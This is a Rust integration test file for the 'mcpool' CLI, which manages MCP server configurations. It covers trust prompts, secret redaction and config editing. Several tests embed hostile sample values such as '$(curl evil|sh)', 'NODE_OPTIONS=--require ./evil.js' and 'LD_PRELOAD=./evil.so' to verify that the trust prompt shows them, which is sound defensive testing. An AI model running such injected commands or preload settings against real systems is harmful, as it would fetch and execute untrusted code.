//! The command line and a user's files: finding servers, editing files, trusting a project, and showing no secret.

use std::fs::File;
use std::io::{Read, Write};
use std::os::fd::{FromRawFd, OwnedFd};
use std::os::unix::fs::PermissionsExt;
use std::ptr::null_mut;

use serde_json::{Value, json};

#[path = "cli/support.rs"]
mod support;

use support::{Home, MCPOOL, demo, read, write};

const SECRET: &str = "hunter2-marker";

#[test]
fn a_server_that_was_added_can_be_listed_tested_and_removed() {
    let home = Home::new("add");

    let ran = home.run(&["add", "demo", "--timeout", "9000", "--", MCPOOL, "demo-server"]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    assert!(ran.out.starts_with("Added \"demo\" to ~/.config/mcpool/mcp.json: "), "{}", ran.out);
    let written = &read(&home.own())["mcpServers"]["demo"];
    assert_eq!(written, &json!({"command": MCPOOL, "args": ["demo-server"], "timeout": 9000}));
    let mode = std::fs::metadata(home.own()).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o600);
    let listed = home.run(&["list", "--json"]).json();
    let server = &listed["servers"][0];
    assert_eq!((&server["name"], &server["state"]), (&json!("demo"), &json!("on")));
    assert_eq!(server["source"]["provider"], "mcpool");
    assert_eq!(home.run(&["test", "demo"]).code, 0);
    let again = home.run(&["add", "demo", "--json", "--", "x"]);
    assert_eq!(again.code, 1);
    assert!(again.json()["error"]["message"].as_str().unwrap().contains("already exists"));
    let ran = home.run(&["remove", "demo", "--json"]);
    assert_eq!((ran.code, &ran.json()["removed"]), (0, &json!("demo")));
    assert_eq!(home.run(&["list", "--json"]).json()["servers"], json!([]));
    let ran = home.run(&["remove", "demo"]);
    assert_eq!(ran.code, 1);
    assert!(ran.err.contains("\"demo\""), "{}", ran.err);
}

#[test]
fn a_remote_server_is_added_with_its_headers_and_shown_without_them() {
    let home = Home::new("remote");
    let add = ["add", "docs", "--url", "https://me:pw@example.com/mcp", "--header", "X-A: b: c"];
    let ran = home.run(&[&add[..], &["--token", SECRET, "--disabled"]].concat());
    assert_eq!(ran.code, 0, "{}", ran.err);
    assert!(!ran.all().contains(SECRET) && !ran.all().contains("pw"), "{}", ran.all());
    let written = &read(&home.own())["mcpServers"]["docs"];
    assert_eq!(written["headers"]["Authorization"], format!("Bearer {SECRET}"));
    assert_eq!((&written["headers"]["X-A"], &written["type"]), (&json!("b: c"), &json!("http")));
    assert_eq!(written["enabled"], false);
    for args in [&["list"][..], &["list", "--json"], &["discover"], &["discover", "--json"]] {
        let ran = home.run(args);
        assert_eq!(ran.code, 0, "{}", ran.err);
        assert!(ran.out.contains("docs") && ran.out.contains("example.com"), "{}", ran.out);
        assert!(
            !ran.all().contains(SECRET) && !ran.all().contains(":pw"),
            "{args:?} {}",
            ran.all()
        );
    }
    let ran = home.run(&["add", "sock", "--url", "wss://example.com/mcp"]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    assert_eq!(read(&home.own())["mcpServers"]["sock"]["type"], "websocket");
}

#[test]
fn words_that_contradict_each_other_are_wrong_usage() {
    let home = Home::new("contradict");
    let url = "https://example.com/mcp";
    let wrong: &[(&[&str], &str)] = &[
        (&["x", "--url", url, "--", "npx"], "Use either --url or -- <command...>, not both."),
        (&["x", "--token", "t", "--", "npx"], "--token requires --url (HTTP/SSE transport)."),
        (&["x"], "Use either --url or -- <command...>."),
        (&[], "name the server"),
        (&["x", "--header", "A: b", "--", "npx"], "--header requires --url"),
        (&["x", "--url", url, "--env", "A=b"], "--env and --cwd are for"),
        (&["x", "--url", url, "--header", "nonsense"], "--header: write"),
        (&["x", "--url", url, "--transport", "stdio"], "requires -- <command...>"),
        (&["x", "--transport", "sse", "--", "npx"], "require --url"),
        (&["x", "--env", "nonsense", "--", "npx"], "--env: write"),
        (&["x", "--env", "=hunter2", "--", "npx"], "--env: write"),
        (&["x", "--url", url, "--header", ": b"], "--header: write"),
        (&["x", "--scope", "user", "--file", "f.json", "--", "npx"], "cannot be used with"),
        (&["x", "--url", url, "--timeout", "0"], "0 is not in"),
    ];
    for (args, text) in wrong {
        let ran = home.run(&[&["add"], *args].concat());
        assert_eq!((ran.code, ran.out.as_str()), (2, ""), "{args:?}");
        assert!(ran.err.contains(text), "{args:?}: {}", ran.err);
    }
    assert!(!home.own().exists());
    for (name, text) in [("", "cannot be empty"), ("a b", "may only contain")] {
        let ran = home.run(&["add", name, "--", "npx"]);
        assert_eq!(ran.code, 1);
        assert!(ran.err.contains(text), "{}", ran.err);
    }
}

#[test]
fn a_change_goes_into_the_file_or_scope_that_is_named() {
    let home = Home::new("places");
    let ran = home.run(&["add", "a", "--scope", "project", "--", "npx", "x"]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    assert_eq!(read(&home.project(".mcpool/mcp.json"))["mcpServers"]["a"]["command"], "npx");
    assert!(ran.err.contains("mcpool trust"), "{}", ran.err);
    let ran = home.run(&["add", "b", "-c", "my.toml", "--env", "A=b", "--", "npx"]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    let text = std::fs::read_to_string(home.project("my.toml")).unwrap();
    assert!(text.starts_with("[mcpServers.b]\n"), "{text}");
    let ran = home.run(&["list", "-c", "my.toml", "--json"]);
    assert_eq!(ran.json()["servers"][0]["name"], "b");
    assert!(!home.own().exists());
    assert_eq!(home.run(&["disable", "b", "-c", "my.toml"]).code, 0);
    let state = |ran: support::Ran| ran.json()["servers"][0]["state"].clone();
    assert_eq!(state(home.run(&["list", "-c", "my.toml", "--json"])), "off");
    assert_eq!(home.run(&["enable", "b", "--file", "my.toml"]).code, 0);
    assert_eq!(state(home.run(&["list", "-c", "my.toml", "--json"])), "on");
    let by_variable = |args: &[&str]| -> support::Ran {
        home.command(args).env("MCPOOL_CONFIG", home.project("my.toml")).output().unwrap().into()
    };
    assert_eq!(by_variable(&["list", "--json"]).json()["servers"][0]["name"], "b");
    assert_eq!(by_variable(&["remove", "b"]).code, 0);
    assert_eq!(by_variable(&["list", "--json"]).json()["servers"], json!([]));
}

#[test]
fn another_products_file_is_never_changed_unasked() {
    let home = Home::new("foreign");
    let cursor = home.home(".cursor/mcp.json");
    write(&cursor, json!({"demo": demo(), "off": {"command": "x", "disabled": true}}));
    let before = std::fs::read(&cursor).unwrap();
    let state = |name: &str| {
        let listed = home.run(&["list", "--json"]).json();
        let servers = listed["servers"].as_array().unwrap().clone();
        let server = servers.into_iter().find(|server| server["name"] == name);
        server.map_or(Value::Null, |server| server["state"].clone())
    };
    assert_eq!(state("demo"), "on");
    let ran = home.run(&["disable", "demo"]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    assert!(ran.out.contains("disabledServers"), "{}", ran.out);
    assert_eq!(read(&home.own())["disabledServers"], json!(["demo"]));
    assert_eq!(state("demo"), "off");
    let ran = home.run(&["call", "demo", "now"]);
    assert_eq!(ran.code, 1);
    assert!(ran.err.contains("is disabled"), "{}", ran.err);
    assert_eq!(home.run(&["enable", "demo"]).code, 0);
    assert_eq!(state("demo"), "on");
    let ran = home.run(&["remove", "demo"]);
    assert_eq!(ran.code, 1);
    assert!(ran.err.contains("~/.cursor/mcp.json") && ran.err.contains("--file"), "{}", ran.err);
    let ran = home.run(&["enable", "off"]);
    assert_eq!(ran.code, 1);
    assert!(ran.err.contains("--file"), "{}", ran.err);
    // A list in the project's file does not speak for that product's file.
    let list = home.project(".mcpool/mcp.json");
    std::fs::create_dir_all(list.parent().unwrap()).unwrap();
    std::fs::write(&list, r#"{"disabledServers": ["demo"]}"#).unwrap();
    assert_eq!(home.run(&["enable", "demo"]).code, 0, "nobody has trusted that list");
    assert_eq!(home.run(&["trust", "--all"]).code, 0);
    let error = home.run(&["enable", "demo", "--json"]).json()["error"].clone();
    assert_eq!(error["code"], "SERVER_DISABLED", "{error}");
    assert!(error["hint"].as_str().unwrap().contains("disabledServers"), "{error}");
    std::fs::remove_file(list).unwrap();
    assert_eq!(std::fs::read(&cursor).unwrap(), before);
    assert_eq!(home.run(&["remove", "demo", "--file", cursor.to_str().unwrap()]).code, 0);
    assert_eq!(state("demo"), Value::Null);
    let ran = home.run(&["disable", "of"]);
    assert_eq!(ran.code, 1);
    assert!(ran.err.contains("did you mean \"off\"?"), "{}", ran.err);
}

#[test]
fn enabling_undoes_what_disabling_did_wherever_the_server_is() {
    let home = Home::new("enable");
    let both = json!({"mcpServers": {"a": demo()}, "disabledServers": ["a", "b"]});
    std::fs::create_dir_all(home.own().parent().unwrap()).unwrap();
    std::fs::write(home.own(), both.to_string()).unwrap();
    write(&home.project(".mcpool/mcp.json"), json!({"b": {"command": "x", "enabled": false}}));
    for name in ["a", "b"] {
        let ran = home.run(&["enable", name]);
        assert_eq!(ran.code, 0, "{}", ran.err);
    }
    let listed = home.run(&["list", "--json"]).json();
    let states: Vec<&Value> =
        listed["servers"].as_array().unwrap().iter().map(|server| &server["state"]).collect();
    assert!(states.len() == 2 && !states.contains(&&json!("off")), "{listed}");
}

#[test]
fn discover_says_which_file_won_and_why() {
    let home = Home::new("discover");
    write(&home.own(), json!({"a": demo()}));
    write(&home.home(".cursor/mcp.json"), json!({"a": {"command": "x"}, "b": demo()}));
    write(&home.project(".cursor/mcp.json"), json!({"b": {"url": "https://example.com/mcp"}}));
    std::fs::create_dir_all(home.home(".gemini")).unwrap();
    std::fs::write(home.home(".gemini/settings.json"), "{\n \"mcpServers\": oops\n}").unwrap();
    let untrusted = home.run(&["discover", "--json"]).json();
    let users = json!({"name": "b", "source": {"provider": "cursor", "level": "user",
        "path": home.home(".cursor/mcp.json")}});
    assert_eq!(untrusted["blocked"][0]["servers"], json!([users]), "{untrusted}");
    assert_eq!(home.run(&["trust", "--all"]).code, 0);
    let ran = home.run(&["discover"]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    for text in ["~/.cursor/mcp.json", "Shadowed", "mcpool comes before cursor", "project's file"] {
        assert!(ran.out.contains(text), "{text} is missing in {}", ran.out);
    }
    assert!(ran.all().contains("settings.json"), "{}", ran.all());
    assert!(!ran.out.contains('\x1b'));
    let report = home.run(&["discover", "--json"]).json();
    let of = |name: &str| {
        let servers = report["servers"].as_array().unwrap();
        servers.iter().find(|server| server["name"] == name).unwrap().clone()
    };
    let paths = |name: &str| {
        let shadows = of(name)["shadows"].as_array().unwrap().clone();
        let shadowed = shadows.into_iter().map(|shadow| shadow["path"].clone());
        (of(name)["source"]["path"].clone(), shadowed.collect::<Vec<_>>())
    };
    let cursor = json!(home.home(".cursor/mcp.json"));
    assert_eq!(paths("a"), (json!(home.own()), vec![cursor.clone()]));
    assert_eq!(paths("b"), (json!(home.project(".cursor/mcp.json")), vec![cursor]));
    let ran = home.run(&["discover", "--no-project", "--provider", "cursor"]);
    assert!(!ran.out.contains("example.com"), "{}", ran.out);
    let ran = home.run(&["list", "--project", "no/such/place"]);
    assert_eq!(ran.code, 1);
    assert!(ran.err.contains("not a directory"), "{}", ran.err);
}

#[test]
fn a_projects_program_starts_only_when_its_file_is_trusted() {
    let home = Home::new("trust");
    let file = home.project(".mcp.json");
    write(&file, json!({"demo": demo()}));
    let ran = home.run(&["tools"]);
    assert_eq!((ran.code, ran.out.as_str()), (0, ""), "{}", ran.err);
    assert!(ran.err.starts_with("Blocked \"demo\": Refused to start stdio server"), "{}", ran.err);
    assert!(ran.err.contains("mcpool trust"), "{}", ran.err);
    assert_eq!(home.run(&["test", "demo"]).code, 1);
    assert_eq!(home.run(&["list", "--json"]).json()["servers"][0]["state"], "untrusted");
    let ran = home.run(&["trust"]);
    assert!(ran.out.contains("demo-server"), "{}", ran.out);
    let ran = home.run(&["trust", ".mcp.json"]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    assert!(ran.out.contains("demo"), "{}", ran.out);
    assert_eq!(home.run(&["list", "--json"]).json()["servers"][0]["state"], "on");
    let ran = home.run(&["tools"]);
    assert!(ran.out.contains("greet"), "{}{}", ran.out, ran.err);
    let list = home.run(&["trust", "--list", "--json"]).json();
    assert_eq!(list["trusted"][0]["server"], "demo");
    // A changed definition of the same name is asked about again.
    let mut changed = demo();
    changed["args"] = json!(["demo-server", "--help"]);
    write(&file, json!({"demo": changed}));
    assert!(home.run(&["tools"]).err.contains("Refused to start"), "a changed definition ran");
    write(&file, json!({"demo": demo()}));
    assert!(home.run(&["tools"]).out.contains("greet"));
    let ran = home.run(&["trust", "--revoke", ".mcp.json", "--json"]);
    assert_eq!((ran.code, &ran.json()["revoked"][0]["server"]), (0, &json!("demo")));
    assert!(home.run(&["tools"]).err.contains("Refused to start"));
    assert_eq!(home.run(&["trust", "--all"]).code, 0);
    assert!(home.run(&["tools"]).out.contains("greet"));
    assert_eq!(home.run(&["trust", "--revoke", "--all"]).code, 0);
    assert_eq!(home.run(&["trust", "--list", "--json"]).json()["trusted"], json!([]));
    for args in [&["trust", "--revoke"][..], &["trust", "--list", "x"], &["trust", "--server", "x"]]
    {
        assert_eq!(home.run(args).code, 2, "{args:?}");
    }
}

#[test]
fn a_products_file_that_is_named_is_used_as_the_product_writes_it() {
    let home = Home::new("named");
    let file = home.project("ael-config.yaml");
    let text = format!("mcp_servers:\n  demo: {{command: '{MCPOOL} demo-server', timeout: 20}}\n");
    std::fs::write(&file, text).unwrap();
    let file = file.to_str().unwrap();
    assert_eq!(home.run(&["test", "demo"]).code, 1);
    let ran = home.run(&["test", "-c", file, "demo"]);
    assert_eq!(ran.code, 0, "{}", ran.all());
    let listed = home.run(&["list", "-c", file, "--json"]).json();
    let source = &listed["servers"][0]["source"];
    assert_eq!((&source["provider"], &source["level"]), (&json!("ael"), &json!("explicit")));
}

#[test]
fn the_question_of_trust_shows_everything_that_would_run() {
    let home = Home::new("question");
    let program = json!({
        "command": "npx", "args": ["--token", "$(curl evil|sh)", "KEY=x;curl evil|sh"],
        "env": {"NODE_OPTIONS": "--require ./evil.js", "TOKEN": "!touch /tmp/x"},
        "cwd": "sub", "envFile": "vars",
    });
    let remote = json!({"url": "https://user:pw@evil/?token=t", "headers": {"A": "!id > ~/x"}});
    let file = home.project(".mcpool/mcp.json");
    write(&file, json!({"p": program, "r": remote, "off": {"command": "later", "enabled": false}}));
    std::fs::write(home.project("vars"), "LD_PRELOAD=./evil.so\n").unwrap();
    for args in [&["trust"][..], &["trust", ".mcpool/mcp.json"]] {
        let shown = home.run(args).out;
        for text in [
            "npx --token '$(curl evil|sh)' 'KEY=x;curl evil|sh'",
            "NODE_OPTIONS=--require ./evil.js",
            "TOKEN=!touch /tmp/x",
            "cwd  sub",
            "envFile  vars",
            "LD_PRELOAD=./evil.so",
            "https://user:pw@evil/?token=t",
            "A=!id > ~/x",
            "later",
        ] {
            assert!(shown.contains(text), "{args:?}: {text} is not in {shown}");
        }
    }
}

#[test]
fn what_is_trusted_is_what_was_shown() {
    let home = Home::new("fingerprint");
    let file = home.project(".mcp.json");
    write(&file, json!({"demo": demo(), "off": {"command": "later", "disabled": true}}));
    let listed = home.run(&["trust", "--json"]).json()["untrusted"].clone();
    let fingerprints: Vec<&str> =
        listed.as_array().unwrap().iter().map(|it| it["fingerprint"].as_str().unwrap()).collect();
    let mut changed = demo();
    changed["env"] = json!({"NODE_OPTIONS": "--require ./evil.js"});
    write(&file, json!({"demo": changed}));
    let ran = home.run(&["trust", ".mcp.json", "--fingerprint", fingerprints[0]]);
    assert_eq!((ran.code, ran.err.contains("has changed")), (1, true), "{}", ran.err);
    assert_eq!(home.run(&["trust", "--list", "--json"]).json()["trusted"], json!([]));
    write(&file, json!({"demo": demo()}));
    assert_eq!(home.run(&["trust", ".mcp.json", "--fingerprint", fingerprints[0]]).code, 0);
    assert!(home.run(&["tools"]).out.contains("greet"));
    // Everything that --all trusts was listed before.
    write(&file, json!({"demo": demo(), "off": {"command": "later", "disabled": true}}));
    let all = home.run(&["trust", "--all", "--json"]).json()["trusted"].clone();
    for one in all.as_array().unwrap() {
        assert!(fingerprints.contains(&one["fingerprint"].as_str().unwrap()), "{one}");
    }
}

#[test]
fn a_changed_file_that_a_definition_brings_is_asked_about_again() {
    let home = Home::new("brings");
    let runner = json!({"type": "stdio", "command": "${RUNNER}", "args": ["demo-server"]});
    write(&home.project(".ai-agent.json"), json!({"a": runner}));
    let mut with_file = demo();
    with_file["envFile"] = json!("vars");
    write(&home.project(".mcp.json"), json!({"b": with_file}));
    let variables = |text: &str| std::fs::write(home.project(".ai-agent.env"), text).unwrap();
    let env_file = |text: &str| std::fs::write(home.project("vars"), text).unwrap();
    variables(&format!("RUNNER={MCPOOL}\n"));
    env_file("A=1\n");
    assert_eq!(home.run(&["trust", "--all"]).code, 0);
    let states = || {
        let listed = home.run(&["list", "--json"]).json();
        let servers = listed["servers"].as_array().unwrap().iter();
        servers.map(|it| it["state"].as_str().unwrap().to_owned()).collect::<Vec<_>>()
    };
    assert_eq!(states(), ["on", "on"]);
    assert!(home.run(&["tools"]).out.contains("greet"));
    variables("RUNNER=/bin/false\n");
    assert_eq!(states(), ["untrusted", "on"]);
    env_file("LD_PRELOAD=./evil.so\n");
    assert_eq!(states(), ["untrusted", "untrusted"]);
    variables(&format!("RUNNER={MCPOOL}\n"));
    env_file("A=1\n");
    assert_eq!(states(), ["on", "on"]);
}

#[test]
fn the_schema_is_one_document_either_way() {
    let home = Home::new("schema");
    let schema = home.run(&["schema"]).json();
    assert!(schema["$schema"].is_string() && schema["properties"]["mcpServers"].is_object());
    assert_eq!(home.run(&["schema", "--json"]).json(), schema);
}

#[test]
fn no_command_shows_a_secret() {
    let home = Home::new("secrets");
    let server = json!({
        "command": "no-such-program", "args": ["--api-key", SECRET, format!("--token={SECRET}")],
        "env": {"API_KEY": SECRET},
    });
    let url = format!("http://user:{SECRET}@127.0.0.1:1/mcp?api_key={SECRET}");
    let remote = json!({"url": url, "headers": {"Authorization": format!("Bearer {SECRET}")}});
    let bad = json!({"command": "x", "url": url, "env": {"K": SECRET}});
    write(&home.own(), json!({"s": server.clone(), "r": remote, "bad": bad}));
    write(&home.project(".mcp.json"), json!({"p": server}));
    std::fs::write(home.project("broken.json"), format!("{{\"a\": \"{SECRET}\" oops}}")).unwrap();
    let commands: &[&[&str]] = &[
        &["list"],
        &["status"],
        &["tools"],
        &["discover"],
        &["doctor"],
        &["trust", "--list"],
        &["test", "s"],
        &["test", "r"],
        &["test", "bad"],
        &["call", "s", "x"],
        &["list", "-c", "broken.json"],
        &["add", "s", "--token", SECRET, "--url", "https://x.example"],
        &["disable", "s"],
        &["enable", "s"],
    ];
    for command in commands {
        for json in [&[][..], &["--json"]] {
            let ran = home.run(&[command, json].concat());
            assert!(!ran.all().contains(SECRET), "{command:?} {json:?}: {}", ran.all());
            if !json.is_empty() {
                ran.json();
            }
        }
    }
}

#[test]
fn the_next_step_after_adding_to_a_named_file_names_it() {
    let home = Home::new("add-next");
    let ran = home.run(&["add", "demo", "-c", "mine.json", "--", MCPOOL, "demo-server"]);
    assert!(ran.err.contains("mcpool test demo --config mine.json"), "{}", ran.err);
    assert_eq!(home.run(&["test", "demo", "--config", "mine.json"]).code, 0);
}

#[test]
fn an_update_changes_what_it_names_and_nothing_else() {
    let home = Home::new("update");
    let file = home.project("mine.jsonc");
    let text = r#"{
  // kept
  "mcpServers": {
    "a": {"type": "stdio", "command": "npx", "args": ["x"], "env": {"A": "1", "B": "2"}, "lazy": true},
    "web": {"url": "https://example.com/mcp", "headers": {"x-team": "core", "X-Other": "1"}}
  }
}
"#;
    std::fs::write(&file, text).unwrap();
    let update = |args: &[&str]| home.run(&[&["update", "-c", "mine.jsonc"], args].concat());
    let now = |name: &str| {
        let listed = home.run(&["list", "-c", "mine.jsonc", "--json"]).json();
        let servers = listed["servers"].as_array().unwrap().clone();
        servers.into_iter().find(|it| it["name"] == name).unwrap()["definition"].clone()
    };
    let ran = update(&["a", "--env", "C=${HOME}", "--unset", "env.A", "--timeout", "5000"]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    assert!(ran.err.contains("mcpool test a --config mine.jsonc"), "{}", ran.err);
    let names: Vec<String> = now("a")["env"].as_object().unwrap().keys().cloned().collect();
    assert_eq!(names, ["B", "C"]);
    assert_eq!((&now("a")["timeout"], &now("a")["lazy"]), (&json!(5000), &json!(true)));
    assert!(std::fs::read_to_string(&file).unwrap().contains("// kept"));

    assert_eq!(update(&["a", "--set", "restart=once", "--set", "toolTimeout=7000"]).code, 0);
    assert_eq!(update(&["a", "--unset", "lazy", "--", "uvx", "y", "--z"]).code, 0);
    let after = now("a");
    assert_eq!((&after["command"], &after["args"]), (&json!("uvx"), &json!(["y", "--z"])));
    assert_eq!((&after["restart"], &after["toolTimeout"]), (&json!("once"), &json!(7000)));
    assert_eq!(after["lazy"], Value::Null);

    let ran = update(&["web", "--header", "X-Team: other", "--url", "https://example.com/v2"]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    assert!(ran.err.contains("its headers are kept"), "{}", ran.err);
    let names: Vec<String> = now("web")["headers"].as_object().unwrap().keys().cloned().collect();
    assert_eq!(
        (names, &now("web")["url"]),
        (vec!["X-Other".to_owned(), "X-Team".to_owned()], &json!("https://example.com/v2"))
    );

    let ran = update(&["a", "--url", "https://example.com/a"]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    assert!(ran.err.contains("Removed: command, args, env"), "{}", ran.err);
    let after = now("a");
    assert_eq!(after["url"], "https://example.com/a");
    assert_eq!((&after["command"], &after["env"]), (&Value::Null, &Value::Null));
    assert_eq!(update(&["a", "--", "npx", "x"]).code, 0);
    assert_eq!((&now("a")["command"], &now("a")["url"]), (&json!("npx"), &Value::Null));
}

#[test]
fn an_update_that_cannot_be_made_changes_nothing() {
    let home = Home::new("update-refused");
    assert_eq!(home.run(&["add", "demo", "--", MCPOOL, "demo-server"]).code, 0);
    let before = std::fs::read_to_string(home.own()).unwrap();
    let usage: &[(&[&str], &str)] = &[
        (&["demo"], "say what to change"),
        (&["demo", "--set", "toolTimeuot=5"], "did you mean \"toolTimeout\"?"),
        (&["demo", "--set", "timeout"], "write FIELD=VALUE"),
        (&["demo", "--header", "A: b"], "--header requires --url"),
        (&["demo", "--url", "https://x", "--", "npx"], "not both"),
    ];
    for (args, text) in usage {
        let ran = home.run(&[&["update"], *args].concat());
        assert_eq!((ran.code, ran.out.as_str()), (2, ""), "{args:?}: {}", ran.err);
        assert!(ran.err.contains(text), "{args:?}: {}", ran.err);
    }
    let failed: &[(&[&str], &str)] = &[
        (&["dem", "--timeout", "5"], "did you mean \"demo\"?"),
        (&["demo", "--unset", "env.NOPE"], "has no \"NOPE\" in \"env\""),
        (&["demo", "--url", "ftp://example.com"], "Invalid server config"),
    ];
    for (args, text) in failed {
        let ran = home.run(&[&["update"], *args].concat());
        assert_eq!(ran.code, 1, "{args:?}: {}", ran.err);
        assert!(ran.err.contains(text), "{args:?}: {}", ran.err);
    }
    assert_eq!(std::fs::read_to_string(home.own()).unwrap(), before);

    let cursor = home.home(".cursor/mcp.json");
    std::fs::create_dir_all(cursor.parent().unwrap()).unwrap();
    std::fs::write(&cursor, r#"{"mcpServers": {"theirs": {"command": "npx"}}}"#).unwrap();
    let ran = home.run(&["update", "theirs", "--timeout", "5000"]);
    assert_eq!(ran.code, 1);
    assert!(ran.err.contains("mcpool update theirs --file"), "{}", ran.err);
}

#[test]
fn the_step_after_an_update_fits_where_the_server_is() {
    let home = Home::new("update-next");
    assert_eq!(home.run(&["add", "mine", "--", MCPOOL, "demo-server"]).code, 0);
    let ran = home.run(&["update", "mine", "--timeout", "20000"]);
    assert!(ran.err.contains("Next: mcpool test mine\n"), "{}", ran.err);
    assert_eq!(home.run(&["test", "mine"]).code, 0);
    let add = ["add", "ours", "--scope", "project", "--", MCPOOL, "demo-server"];
    assert_eq!(home.run(&add).code, 0);
    assert_eq!(home.run(&["trust", ".mcpool/mcp.json", "--yes"]).code, 0);
    let ran = home.run(&["update", "ours", "--timeout", "20000"]);
    assert!(ran.err.contains("Next: mcpool trust .mcpool/mcp.json"), "{}", ran.err);
}

#[test]
fn what_is_advised_after_adding_to_another_products_file_works() {
    let files = [
        ("ael-config.yaml", "timeout: 9\n"),
        ("cline_mcp_settings.json", "\"timeout\": 9"),
        ("goose/config.yaml", "cmd: "),
        ("opencode.json", "\"timeout\": 9000"),
        (".codex/config.toml", "startup_timeout_sec = 9\n"),
        (".vscode/mcp.json", "\"servers\""),
        (".zed/settings.json", "\"context_servers\""),
        (".continue/mcpServers/mine.yaml", "connectionTimeout: 9000\n"),
        (".gemini/settings.json", "\"timeout\": 9000"),
    ];
    let run_shown = |home: &Home, text: &str| {
        let shown = text.split(['"', '\n']).find(|part| part.contains("mcpool ")).unwrap_or(text);
        let words = shlex::split(&shown[shown.find("mcpool ").unwrap()..]).unwrap();
        home.run(&words[1..].iter().map(String::as_str).collect::<Vec<_>>())
    };
    for (file, written) in files {
        let home = Home::new("add-advice");
        let program = ["--file", file, "--timeout", "9000", "--", MCPOOL, "demo-server"];
        let ran = home.run(&[&["add", "demo"], &program[..]].concat());
        assert_eq!(ran.code, 0, "{file}: {}", ran.err);
        let text = std::fs::read_to_string(home.project(file)).unwrap();
        assert!(text.contains(written), "{text}");
        let next = ran.err.lines().find(|line| line.contains("Next:")).unwrap();
        let tested = run_shown(&home, next);
        assert_eq!(tested.code, 0, "{file}: {next}\n{}", tested.err);
        assert_eq!(home.run(&["disable", "demo", "--file", file]).code, 0, "{file}");
        let off = home.run(&["test", "demo", "--config", file]);
        assert_eq!(off.code, 1, "{file}: {}", off.out);
        let advice = off.err.split("Run ").nth(1).unwrap_or_else(|| panic!("{}", off.err));
        assert_eq!(run_shown(&home, advice).code, 0, "{file}: {advice}");
        assert_eq!(home.run(&["test", "demo", "--config", file]).code, 0, "{file}");
        assert_eq!(home.run(&["remove", "demo", "--file", file]).code, 0, "{file}");
    }
}

#[cfg(target_os = "linux")]
#[test]
fn an_argument_that_is_no_text_is_refused_and_written_nowhere() {
    use std::os::unix::ffi::OsStrExt;
    let home = Home::new("add-no-text");
    let mut add = home.command(&["add", "demo", "--"]);
    let ran = add.arg(std::ffi::OsStr::from_bytes(b"a\xffb")).output().unwrap();
    assert_eq!(ran.status.code(), Some(2));
    assert!(!home.own().exists());
}

#[test]
fn a_new_file_gets_the_form_that_its_name_is_read_in() {
    let home = Home::new("new-by-name");
    for name in ["cline_mcp_settings.json", "mcp_settings.json"] {
        let ran = home.run(&[
            "add",
            "t",
            "--file",
            name,
            "--timeout",
            "20000",
            "--",
            MCPOOL,
            "demo-server",
        ]);
        assert_eq!(ran.code, 0, "{}", ran.err);
        assert_eq!(read(&home.project(name))["mcpServers"]["t"]["timeout"], 20, "{name}");
        let listed = home.run(&["list", "-c", name, "--json"]).json();
        assert_eq!(listed["servers"][0]["definition"]["timeout"], 20_000, "{name}");
    }
}

#[test]
fn what_a_product_ignores_is_told_by_every_command_that_writes_it() {
    let home = Home::new("ignored-field");
    let file = home.project(".vscode/mcp.json");
    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
    std::fs::write(&file, r#"{"servers": {"a": {"type": "stdio", "command": "npx"}}}"#).unwrap();
    let ran = home.run(&["disable", "a", "--file", ".vscode/mcp.json"]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    assert!(ran.err.contains("vscode ignores it"), "{}", ran.err);
}

#[test]
fn the_error_about_a_value_that_is_no_json_does_not_show_it() {
    let home = Home::new("no-json");
    assert_eq!(home.run(&["add", "demo", "--", MCPOOL, "demo-server"]).code, 0);
    let broken = format!("env:={{\"A\":\"{SECRET}\"");
    for args in
        [&["update", "demo", "--set", &broken][..], &["update", "demo", "--json", "--set", &broken]]
    {
        let ran = home.run(args);
        assert_eq!(ran.code, 2, "{}", ran.err);
        assert!(!ran.all().contains(SECRET) && ran.all().contains("env"), "{}", ran.all());
    }
}

#[test]
fn an_update_leaves_inputs_as_they_are_and_refuses_unknown_fields() {
    let home = Home::new("inputs-stay");
    let path = home.project(".vscode/mcp.json");
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    let text = r#"{"inputs": [{"id": "key", "default": "answer"}],
        "servers": {"a": {"type": "stdio", "command": "x", "env": {"KEY": "${input:key}"}}}}"#;
    std::fs::write(&path, text).unwrap();
    let file = path.to_str().unwrap();
    let update = |args: &[&str]| home.run(&[&["update", "a", "--file", file], args].concat());
    assert_eq!(update(&["--env", "B=1"]).code, 0);
    let now = std::fs::read_to_string(&path).unwrap();
    assert!(now.contains("${input:key}") && now.contains("\"B\""), "{now}");
    let ran = update(&["--unset", "toolTimout"]);
    assert_eq!(ran.code, 2, "{}", ran.err);
    assert!(ran.err.contains("did you mean \"toolTimeout\"?"), "{}", ran.err);
    let ran = update(&["--set", r#"env:{"TOKEN":"s3cret"}"#]);
    assert!(ran.code == 2 && !ran.err.contains("s3cret"), "{}", ran.err);
}

#[test]
fn a_limit_that_is_the_default_is_written_when_it_is_asked_for() {
    let home = Home::new("asked-default");
    let file = home.project(".cursor/mcp.json");
    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
    std::fs::write(&file, r#"{"mcpServers": {"a": {"command": "npx"}}}"#).unwrap();
    let ran = home.run(&["update", "a", "--file", ".cursor/mcp.json", "--timeout", "30000"]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    assert_eq!(read(&file)["mcpServers"]["a"]["timeout"], 30_000);
}

#[test]
fn what_a_product_cannot_say_is_refused_before_more_is_asked() {
    let home = Home::new("dialog-refused");
    std::fs::create_dir(home.project("directory")).unwrap();
    let answers = ["a", "directory", "cline_mcp_settings.json", "websocket", "wss://example.com/"];
    let (code, seen) = talk(&home, &["add"], &answers);
    assert_eq!(code, 1, "{seen}");
    assert!(seen.contains("directory is a directory, not a file"), "{seen}");
    assert!(seen.contains("cannot have websocket servers"), "{seen}");
    assert!(!seen.contains("Header") && !seen.contains("This goes into"), "{seen}");
    assert!(!home.project("cline_mcp_settings.json").exists());
}

#[test]
